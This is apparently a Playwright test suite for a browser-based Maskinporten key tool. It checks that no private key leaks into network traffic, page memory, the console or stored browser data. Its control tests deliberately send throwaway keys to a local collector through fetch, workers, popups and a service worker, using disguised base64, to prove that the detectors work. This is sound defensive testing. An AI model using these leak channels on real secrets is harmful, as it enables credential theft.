/**
 * G1, G2, G3 (what a browser can show), G5, G6 and G8, in Chromium: a person uses
 * everything, and then everything is searched for the keys that they had.
 */
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { after, before, describe as suite, test } from 'node:test';
import { pathToFileURL } from 'node:url';
import { PASSWORD, SECRET_WORD, useEverything } from './guarantees/everything.mjs';
import { keepEverywhere, searchProfile } from './guarantees/profile.mjs';
import { WHOLE_STRINGS, everHeld, heldNow, memoryOf, watchPage } from './guarantees/watch.mjs';
import { ROOT, launch, launchWithProfile, open, startPortal } from './harness.mjs';
import { Scanner, describe, newPrivateJwk } from './key-material.mjs';
import { BROWSERS_OWN_HOSTS, askedByBrowser, askedByPages, netLog, sentOctets } from './net-log.mjs';
import { answer, field, goTo, makeKey, pasteInto, send, sitDown, t } from './person.mjs';
import { startCollector } from './ways-out/collector.mjs';

const HERE = {
  locale: 'nb-NO',
  acceptDownloads: true,
  permissions: ['clipboard-read', 'clipboard-write'],
  viewport: { width: 1280, height: 900 },
};
/** No name is looked up outside this machine. */
const NO_NAMES = '--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE *.localhost';
const KINDS = ['rsa-2048', 'p-256', 'ed25519', 'p-384', 'rsa-3072'];

suite('after everything was used', () => {
  /** @type {Awaited<ReturnType<typeof useAll>>} */
  let used;
  before(async () => { used = await useAll(); });
  after(() => used?.forget());

  test('G1: requests went to the page\'s own origin and the environments\' hosts', (t) => {
    const urls = [...new Set(askedByPages(used.events))].filter((url) => !/^(blob|data|chrome):/.test(url));
    const origins = [...new Set(urls.map((url) => new URL(url).origin))].sort();
    assert.deepEqual(
      origins,
      [new URL(used.url).origin, 'https://maskinporten.no', 'https://test.maskinporten.no'].sort(),
    );
    assert.deepEqual(askedByBrowser(used.events).filter((host) => !BROWSERS_OWN_HOSTS.test(host)), []);
    const path = (/** @type {string} */ url) => new URL(url).pathname.replace(/[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}/, '{id}');
    const paths = [...new Set(urls.map(path))].sort();
    assert.deepEqual(paths, [
      '/',
      '/.well-known/oauth-authorization-server',
      '/api/v1/clients',
      '/api/v1/clients/{id}/jwks',
      '/api/v1/scopes/access/all',
      '/api/v1/scopes/all',
      '/authentication/api/v1/exchange/maskinporten',
      '/page.js',
      '/portal.wasm',
      '/token',
      '/vault.html',
    ]);
    t.diagnostic(
      `${used.events.length} events of the browser's network, ${sentOctets(used.events).length} octets sent`,
    );
  });

  test('G2: nothing that was sent carries a key', async () => {
    const sent = sentOctets(used.events);
    assert.ok(sent.includes('grant_type='), 'the bodies are among what is searched');
    assert.deepEqual(describe(used.scanner.find(sent)), []);
    assert.deepEqual(describe(used.scanner.find(JSON.stringify(used.events))), []);
    assert.deepEqual(describe(used.scanner.find(JSON.stringify(used.requests))), []);
    assert.equal(used.portalLog.privateMaterial, 0, 'nor did the practice portal see any');
  });

  test('G3: the page\'s document, fields and messages never held a key', () => {
    assert.ok(used.everHeld.includes('"type":"keys"'), 'the messages are among what is searched');
    assert.deepEqual(describe(used.scanner.find(used.everHeld)), []);
    assert.deepEqual(describe(used.scanner.find(used.looks.join('\n'))), []);
  });

  test('G3: nor does its memory, while the vault shows them', () => {
    assert.ok(used.pageMemory.wasm.length > 100_000, 'portal.wasm is among what is searched');
    assert.deepEqual(describe(used.scanner.find(used.pageMemory.strings)), []);
    assert.deepEqual(describe(used.scanner.find(used.pageMemory.wasm)), []);
    assert.notDeepEqual(
      used.scanner.find(used.vaultMemory.strings),
      [],
      "control: the same look into the vault's process finds them",
    );
  });

  test('G5: nothing private is stored: not in the profile on disk, nor in any store', async (t) => {
    assert.deepEqual(used.cookies, []);
    const { files, found } = await searchProfile(used.profile, used.scanner);
    assert.ok(files > 50);
    assert.deepEqual(found, []);
    t.diagnostic(`${files} files searched`);
  });

  test('G6: nothing private was said in the console or in an error', () => {
    assert.deepEqual(describe(used.scanner.find(used.said.join('\n'))), []);
    assert.deepEqual(
      used.said.filter((text) => !/net::ERR_NAME_NOT_RESOLVED|status of 4\d\d/.test(text)),
      [],
      'nothing else was said either',
    );
  });
});

suite('controls: the same searches find what is there', () => {
  /** One secret for each way. @param {string[]} ways */
  const secretsFor = (ways) => Object.fromEntries(ways.map((way) => [way, { ...newPrivateJwk('ed25519'), kid: way }]));

  test('G2: a leak by page, worker, popup or service worker, in shifted base64, is caught', async () => {
    const log = await netLog();
    const [browser, portal, collector] = await Promise.all([
      launch({ args: [...log.args, NO_NAMES] }),
      startPortal(['--quiet']),
      startCollector(),
    ]);
    const context = await browser.newContext();
    const secrets = secretsFor(['body', 'address', 'header', 'worker', 'popup', 'service-worker']);
    secrets.password = SECRET_WORD;
    const shifted = (/** @type {string} */ way) =>
      Buffer.concat([Buffer.from('x'), Buffer.from(secrets[way].d, 'base64url')]).toString('base64');

    const { page } = await open(context, portal.url);
    await page.evaluate((text) => fetch('leak', { method: 'POST', body: text }), shifted('body'));
    await page.evaluate((text) => fetch(`leak?${encodeURIComponent(text)}`), shifted('address'));
    await page.evaluate((text) => fetch('leak', { headers: { 'x-leak': text } }), shifted('header'));
    await page.evaluate((password) => fetch('leak', { method: 'POST', body: new URLSearchParams({ password }) }), PASSWORD);
    const free = await context.newPage();
    const sw = new URL(
      collector.serve(
        `self.onactivate = (e) => e.waitUntil(fetch('${collector.address('by-service-worker')}', {
          method: 'POST', mode: 'no-cors', body: '${shifted('service-worker')}',
        }))`,
        'text/javascript',
      ),
    );
    await free.goto(collector.serve('<!doctype html><title>leak</title>'));
    await free.evaluate(
      async ({ worker, popup, sw, address }) => {
        new Worker(
          URL.createObjectURL(
            new Blob([`fetch('${address}by-worker', { method: 'POST', mode: 'no-cors', body: '${worker}' })`]),
          ),
        );
        window.open(`${address}by-popup?${encodeURIComponent(popup)}`);
        await navigator.serviceWorker.register(sw);
      },
      {
        worker: shifted('worker'),
        popup: shifted('popup'),
        sw: sw.pathname,
        address: `${new URL(free.url()).origin}/`,
      },
    );
    assert.deepEqual(await collector.missing(['by-service-worker'], 5000), []);
    assert.deepEqual(await collector.missingPaths(['/by-worker', '/by-popup'], 5000), []);
    await browser.close();

    const sent = new Scanner(Object.values(secrets)).find(sentOctets(await log.events()));
    assert.deepEqual([...new Set(sent.map(({ key }) => key))].sort(), Object.keys(secrets).sort());
    await Promise.all([portal.stop(), collector.stop(), log.forget()]);
  });

  test('G3 and G6: a key in the page\'s document, messages, memory or console is found', async () => {
    const [browser, portal] = await Promise.all([launch({ args: [WHOLE_STRINGS] }), startPortal(['--quiet'])]);
    const context = await browser.newContext();
    await context.addInitScript(watchPage);
    const { page, said } = await open(context, portal.url);
    const secrets = secretsFor(['attribute', 'text', 'message', 'field', 'variable', 'wasm', 'console']);
    const d = Object.fromEntries(Object.entries(secrets).map(([way, jwk]) => [way, jwk.d]));
    secrets.password = SECRET_WORD;
    await page.evaluate(({ d, password }) => {
      const element = document.createElement('input');
      element.title = d.attribute;
      element.value = d.field;
      document.body.append(element, d.text);
      new MessageChannel().port1.postMessage({ d: d.message });
      Object.assign(window, { leak: { variable: d.variable, wasm: new WebAssembly.Memory({ initial: 1 }) } });
      new TextEncoder().encodeInto(d.wasm, new Uint8Array(/** @type {any} */ (window).leak.wasm.buffer));
      console.log(d.console, password);
      element.placeholder = password;
    }, { d, password: PASSWORD });
    const scanner = new Scanner(Object.values(secrets));
    const keys = (/** @type {string|Uint8Array} */ haystack) =>
      [...new Set(scanner.find(haystack).map(({ key }) => key))].sort();
    const memory = await memoryOf(context, page);
    assert.deepEqual(keys(await everHeld(page)), ['attribute', 'message', 'password', 'text']);
    assert.deepEqual(keys(await heldNow(page)), ['attribute', 'field', 'password', 'text']);
    assert.ok(keys(memory.strings).includes('variable'));
    assert.deepEqual(keys(memory.wasm), ['wasm']);
    assert.deepEqual(keys(said.join('\n')), ['console', 'password']);
    await browser.close();
    await portal.stop();
  });

  test('G5: a key in any store is found on disk', async () => {
    const portal = await startPortal(['--quiet']);
    const { context, profile, forget } = await launchWithProfile();
    const { page } = await open(context, portal.url);
    const secrets = secretsFor(['localStorage', 'sessionStorage', 'indexedDB', 'caches', 'address', 'title']);
    await page.evaluate(keepEverywhere, Object.fromEntries(Object.entries(secrets).map(([way, jwk]) => [way, jwk.d])));
    secrets.password = SECRET_WORD;
    await page.evaluate((password) => localStorage.setItem('password', password), PASSWORD);
    await context.close();
    const { found } = await searchProfile(profile, new Scanner(Object.values(secrets)));
    assert.deepEqual([...new Set(found.map(({ key }) => key))].sort(), Object.keys(secrets).sort());
    await Promise.all([portal.stop(), forget()]);
  });
});

suite('G3: a private key pasted into a field of the page', () => {
  /** @type {Awaited<ReturnType<typeof pasteInTheWrongPlace>>} */
  let after;
  before(async () => { after = await pasteInTheWrongPlace(); });

  test('stays neither in the document nor among the strings of the engine', () => {
    assert.deepEqual(describe(after.scanner.find(after.held)), []);
    assert.deepEqual(describe(after.scanner.find(after.memory.strings)), []);
  });

  test('is wiped from the memory of portal.wasm, which looked at it', () => {
    assert.deepEqual(describe(after.scanner.find(after.memory.wasm)), []);
  });
});

for (const [name, address] of [
  ['from a server', null],
  ['from a file', pathToFileURL(path.join(ROOT, 'dist/nokkelsmie.html')).href],
]) {
  test(`G8: ${name}, with the network cut, everything works but the calls`, async () => {
    const [browser, portal] = await Promise.all([launch(), startPortal(['--quiet'])]);
    const person = await sitDown(browser, address ?? portal.url, {
      before: async (context) => {
        if (address) await context.setOffline(true);
      },
    });
    const { page, vault, context } = person;
    await context.setOffline(true);
    await goTo(page, 'lag-nokkel');
    const kid = await makeKey(person);
    const [file] = await Promise.all([
      page.waitForEvent('download'),
      vault.getByRole('button', { name: t('vault.card.save'), exact: true }).click(),
    ]);
    const saved = await readFile(await file.path(), 'utf8');
    assert.equal(JSON.parse(saved).kid, kid);
    await goTo(page, 'sjekk-nokkel');
    await pasteInto(person, vault.locator('#intake'), saved);
    await vault.getByRole('article').nth(1).waitFor();
    await page.locator('#verdict[data-verdict=ready]').waitFor();
    await goTo(page, 'test-klienten');
    await field(page, 'client_id').fill('00000000-0000-4000-8000-000000000000');
    await field(page, t('scopes.label')).fill('altinn:instances.read');
    await send(page);
    await page.locator('[data-code=blocked-or-offline]').waitFor();
    await page.locator('#hand-over > summary').click();
    await page.locator('#hand-over-sign').click();
    await page.locator('#hand-over-text').waitFor();
    await page.locator('#pasted-answer').fill('{"error":"invalid_grant","error_description":"MP-124"}');
    await page.locator('#pasted-answer-explain').click();
    await page.locator('[data-code="MP-124"]').waitFor();
    for (const language of ['nn', 'en', 'nb']) await page.locator(`label:has(#language-${language})`).click();
    await goTo(page, 'veiviser');
    assert.deepEqual(
      (await portal.log()).requests.filter((/** @type {any} */ { method }) => method === 'POST'),
      [],
    );
    await browser.close();
    await portal.stop();
  });
}

/** The field for the client_id is given a private key; the page refuses it and says so. */
async function pasteInTheWrongPlace() {
  const [browser, portal] = await Promise.all([launch({ args: [WHOLE_STRINGS] }), startPortal(['--quiet'])]);
  const person = await sitDown(browser, `${portal.url}#test-klienten`, {
    before: (context) => context.addInitScript(watchPage),
  });
  const { page, vault, context } = person;
  const jwk = { ...newPrivateJwk('rsa', { modulusLength: 2048 }), kid: 'pasted' };
  // Put on the clipboard by the vault: the page must not get it from this test.
  await vault.locator('#intake').focus();
  await vault.locator('#intake').evaluate((_, text) => navigator.clipboard.writeText(text), JSON.stringify(jwk));
  await field(page, 'client_id').focus();
  await page.keyboard.press('Control+V');
  await page.getByText(t('guard.title')).waitFor();
  const held = await everHeld(page) + await heldNow(page);
  const memory = await memoryOf(context, page);
  await browser.close();
  await portal.stop();
  return { scanner: new Scanner([jwk]), held, memory };
}

/** The whole day of one person, written down; the browser is closed at its end. */
async function useAll() {
  const log = await netLog();
  const portal = await startPortal(['--quiet']);
  const { context, profile, forget } = await launchWithProfile({
    args: [...log.args, WHOLE_STRINGS, NO_NAMES],
    ...HERE,
  });
  try {
    await context.addInitScript(watchPage);
    const opened = await open(context, portal.url);
    const { page, vault, requests, said } = opened;
    /** @type {string[]} */
    const looks = [];
    const look = async () => { looks.push(await heldNow(page)); };
    const { keys, wrong } = await useEverything({ context, page, vault }, portal, { kinds: KINDS, look });
    const scanner = new Scanner([...keys, JSON.parse(wrong[0])]);
    const frame = /** @type {import('playwright-core').Frame} */ (
      page.frames().find((one) => one !== page.mainFrame())
    );
    const held = await everHeld(page);
    const pageMemory = await memoryOf(context, page);
    await frame.evaluate(() =>
      Object.assign(window, { shown: document.querySelector('pre.secret:not([hidden])')?.textContent }),
    );
    const vaultMemory = await memoryOf(context, frame);

    await page.reload();
    await vault.locator('#intake').fill(wrong[1]);
    await look();
    const cookies = await context.cookies();
    const portalLog = await portal.log();
    await context.close();
    return {
      url: portal.url,
      events: await log.events(),
      requests,
      said,
      looks,
      everHeld: held,
      pageMemory,
      vaultMemory,
      cookies,
      portalLog,
      scanner,
      profile,
      forget,
    };
  } finally {
    await context.close().catch(() => {});
    await Promise.all([portal.stop(), log.forget()]);
  }
}
